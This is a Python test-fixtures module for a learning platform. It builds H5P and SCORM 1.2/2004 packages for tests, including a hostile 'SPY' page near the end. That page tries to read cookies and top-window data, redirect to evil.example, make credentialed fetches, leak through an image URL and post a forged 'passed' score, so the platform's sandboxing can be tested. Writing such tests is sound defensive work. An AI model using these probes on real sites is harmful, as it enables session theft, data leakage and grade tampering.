"""Packages for tests: an H5P with a tiny library of its own, SCORM 1.2 and 2004 with units of their own, and hostile ones."""

import json
import tempfile
import uuid
from pathlib import Path

from talka.courses.models import Course, Enrolment, Package, PackageRun, PackageUnit, Topic
from talka.courses.packages import actions
from talka.people.models import User
from tests.factories import courses as make
from tests.factories.people import person

LIBRARY = {"title": "Tiny", "machineName": "H5P.Tiny", "majorVersion": 1, "minorVersion": 0, "patchVersion": 0, "runnable": 1,
           "preloadedJs": [{"path": "tiny.js"}], "preloadedDependencies": []}  # fmt: skip
# One question with two buttons; remembers how often it was tried.
TINY = """var H5P = H5P || {};
H5P.Tiny = (function ($) {
  function Tiny(params, id, extras) {
    H5P.EventDispatcher.call(this);
    var self = this;
    self.tries = (extras && extras.previousState && extras.previousState.tries) || 0;
    self.attach = function ($container) {
      $container.append('<p class="tiny-text"></p><button class="tiny-right">Right</button><button class="tiny-wrong">Wrong</button>');
      $container.find('.tiny-text').text(params.text + ' Tries: ' + self.tries);
      $container.find('.tiny-right').on('click', function () { answer(1); });
      $container.find('.tiny-wrong').on('click', function () { answer(0); });
      if (window.tinyAttached) { window.tinyAttached(); }
    };
    function answer(score) {
      self.tries += 1;
      var event = new H5P.XAPIEvent();
      event.setActor();
      event.setObject(self);
      event.setContext(self);
      event.setVerb('answered');
      event.setScoredResult(score, 1, self, true, score === 1);
      self.trigger(event);
    }
    self.contentId = id;
    self.getCurrentState = function () { return { tries: self.tries }; };
    self.getScore = function () { return 1; };
    self.getTitle = function () { return 'Tiny'; };
  }
  Tiny.prototype = Object.create(H5P.EventDispatcher.prototype);
  Tiny.prototype.constructor = Tiny;
  return Tiny;
})(H5P.jQuery);
"""


def h5p_files(title: str = "A tiny question", script: str = TINY, **changes: bytes | str | None) -> dict[str, bytes]:
    files: dict[str, bytes | str | None] = {
        "h5p.json": json.dumps({
            "title": title, "language": "en", "mainLibrary": "H5P.Tiny", "embedTypes": ["div"], "license": "U",
            "preloadedDependencies": [{"machineName": "H5P.Tiny", "majorVersion": "1", "minorVersion": "0"}],
        }),
        "content/content.json": json.dumps({"text": "Is oak a wood?"}),
        "H5P.Tiny-1.0/library.json": json.dumps(LIBRARY),
        "H5P.Tiny-1.0/tiny.js": script,
    } | changes  # fmt: skip
    return {path: content.encode() if isinstance(content, str) else content for path, content in files.items() if content is not None}


def h5p(**changes) -> bytes:
    return make.zipped(h5p_files(**changes))


# Looks for the API as ADL's own examples do: in the windows around it, then in its own.
FINDER = """
function find(win, name) {
  var tries = 0;
  while (win[name] == null && win.parent != null && win.parent != win && tries < 500) { tries += 1; win = win.parent; }
  return win[name];
}
function api(name) {
  var found = null;
  if (window.parent && window.parent != window) { found = find(window.parent, name); }
  if (found == null && window.opener) { found = find(window.opener, name); }
  return found || find(window, name);
}
"""
SCO12 = (
    """<!DOCTYPE html><html><head><title>SCO</title><script>"""
    + FINDER
    + """
var API = api("API");
function begin() {
  API.LMSInitialize("");
  document.getElementById("where").textContent = "at " + API.LMSGetValue("cmi.core.lesson_location") + ", " + API.LMSGetValue("cmi.core.entry")
    + ", " + API.LMSGetValue("cmi.suspend_data") + ", " + API.LMSGetValue("cmi.core.student_name");
}
function answer() {
  API.LMSSetValue("cmi.interactions.0.id", "q1"); API.LMSSetValue("cmi.interactions.0.type", "choice");
  API.LMSSetValue("cmi.interactions.0.student_response", "a,c"); API.LMSSetValue("cmi.interactions.0.result", "wrong");
  API.LMSSetValue("cmi.core.lesson_location", "page-3"); API.LMSSetValue("cmi.suspend_data", "half");
  API.LMSCommit("");
}
function finish() {
  API.LMSSetValue("cmi.core.score.raw", "85"); API.LMSSetValue("cmi.core.score.min", "0"); API.LMSSetValue("cmi.core.score.max", "100");
  API.LMSSetValue("cmi.core.lesson_status", "completed"); API.LMSSetValue("cmi.core.session_time", "00:01:30");
  API.LMSFinish("");
}
</script></head><body onload="begin()"><p id="where"></p><button onclick="answer()">Answer</button><button onclick="finish()">Finish</button></body></html>"""
)
SCO2004 = (
    """<!DOCTYPE html><html><head><title>SCO</title><script>"""
    + FINDER
    + """
var API = api("API_1484_11");
function begin() { API.Initialize(""); document.getElementById("where").textContent = "at " + API.GetValue("cmi.location"); }
function finish() {
  API.SetValue("cmi.location", "end"); API.SetValue("cmi.score.scaled", "0.9"); API.SetValue("cmi.completion_status", "completed");
  API.SetValue("cmi.success_status", "passed"); API.SetValue("cmi.session_time", "PT1M30S"); API.Terminate("");
}
</script></head><body onload="begin()"><p id="where"></p><button onclick="finish()">Finish</button></body></html>"""
)


def manifest12(items: str = "", resources: str = "") -> str:
    items = items or (
        '<item identifier="a" identifierref="ra"><title>First</title><adlcp:masteryscore>80</adlcp:masteryscore>'
        "<adlcp:datafromlms>launch me</adlcp:datafromlms></item>"
        '<item identifier="block"><title>Block</title>'
        '<item identifier="b" identifierref="rb"><title>Second</title><adlcp:prerequisites type="aicc_script">a</adlcp:prerequisites></item></item>'
    )
    resources = resources or (
        '<resource identifier="ra" type="webcontent" adlcp:scormtype="sco" href="sco/one.html"/>'
        '<resource identifier="rb" type="webcontent" adlcp:scormtype="asset" href="two.html?x=1"/>'
    )
    return (
        '<?xml version="1.0"?><manifest identifier="m" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" '
        'xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"><metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>'
        f'<organizations default="o"><organization identifier="o"><title>A SCORM course</title>{items}</organization></organizations>'
        f"<resources>{resources}</resources></manifest>"
    )


def scorm12_files(sco: str = SCO12, **changes: bytes | str | None) -> dict[str, bytes]:
    files: dict[str, bytes | str | None] = {
        "imsmanifest.xml": manifest12(),
        "sco/one.html": sco,
        "two.html": "<html><body>Two</body></html>",
    } | changes
    return {path: content.encode() if isinstance(content, str) else content for path, content in files.items() if content is not None}


def scorm12(**changes) -> bytes:
    return make.zipped(scorm12_files(**changes))


def scorm2004() -> bytes:
    manifest = (
        '<manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" '
        'xmlns:imsss="http://www.imsglobal.org/xsd/imsss"><metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>'
        '<organizations default="o"><organization identifier="o"><title>Newer</title>'
        '<item identifier="one" identifierref="r"><title>One</title></item><item identifier="two" identifierref="r"><title>Two</title></item>'
        '<imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing></organization></organizations>'
        '<resources><resource identifier="r" type="webcontent" adlcp:scormType="sco" href="sco.html"/></resources></manifest>'
    )
    return make.zipped({"imsmanifest.xml": manifest.encode(), "sco.html": SCO2004.encode()})


def on_disk(content: bytes) -> Path:
    """A file that holds this."""
    path = Path(tempfile.mkdtemp(prefix="talka-test-")) / "sent"
    path.write_bytes(content)
    return path


def author(course: Course) -> User:
    """Somebody who runs the site, and so may write every course."""
    made = person("Author")
    User.objects.filter(pk=made.pk).update(is_superuser=True)
    return User.objects.get(pk=made.pk)


def take(course: Course, content: bytes, name: str = "package.zip", *, by: User | None = None, replaces: Package | None = None) -> Package:
    return actions.take_package(course=course, file=on_disk(content), name=name, by=by or author(course), at=make.WHEN, replaces=replaces)


def show(package: Package, topic: Topic) -> Topic:
    """The package is a published material of the topic."""
    actions.show_package(package=package, topic=topic, by=author(package.course), at=make.WHEN, publish=True)
    return Topic.objects.get(pk=topic.pk)


def sitting(unit: PackageUnit, enrolment: Enrolment, topic: Topic, *, at=make.WHEN, key: str = "") -> actions.Sitting:
    run: PackageRun = actions.begin_run(unit=unit, enrolment=enrolment, at=at)
    return actions.Sitting(run, unit, unit.package, enrolment, topic, key or uuid.uuid4().hex)


# Tries what no content may do, and writes on its page what came of it.
SPY = """<!DOCTYPE html><html><body><pre id="seen"></pre><script>
var seen = {};
function note(name, value) { seen[name] = String(value); document.getElementById("seen").textContent = JSON.stringify(seen); }
function attempt(name, call) { try { note(name, call()); } catch (e) { note(name, "blocked: " + e.name); } }
attempt("cookie", function () { return document.cookie || "blocked: empty"; });
attempt("page", function () { return window.top.document.title; });
attempt("storage", function () { return window.top.localStorage.length; });
attempt("address", function () { return window.top.location.href; });
attempt("leave", function () { window.top.location = "https://evil.example/"; return "gone"; });
attempt("window", function () { return window.open("https://evil.example/") ? "open" : "blocked: null"; });
function ask(name, url) {
  fetch(url, { credentials: "include" }).then(function (r) { note(name, r.status); }, function (e) { note(name, "blocked: " + e.name); });
}
ask("network", "https://evil.example/");
ask("site", SITE + "/today/");
ask("own data", SITE + "/me/");
ask("other content", location.href.replace(/content\\/[^/]+/, "content/1-1-1-1-1-x~y~z"));
var picture = new Image();
picture.onload = function () { note("picture", "loaded"); };
picture.onerror = function () { note("picture", "blocked: error"); };
picture.src = SITE + "/static/kit/icon.svg?leak";
parent.postMessage({ talka: 1, n: 1, what: "scorm", values: { "cmi.core.lesson_status": "passed" }, tells: true }, "*");
</script></body></html>"""


def spy(site: str) -> bytes:
    return scorm12(**{"sco/one.html": SPY.replace("SITE", json.dumps(site))})
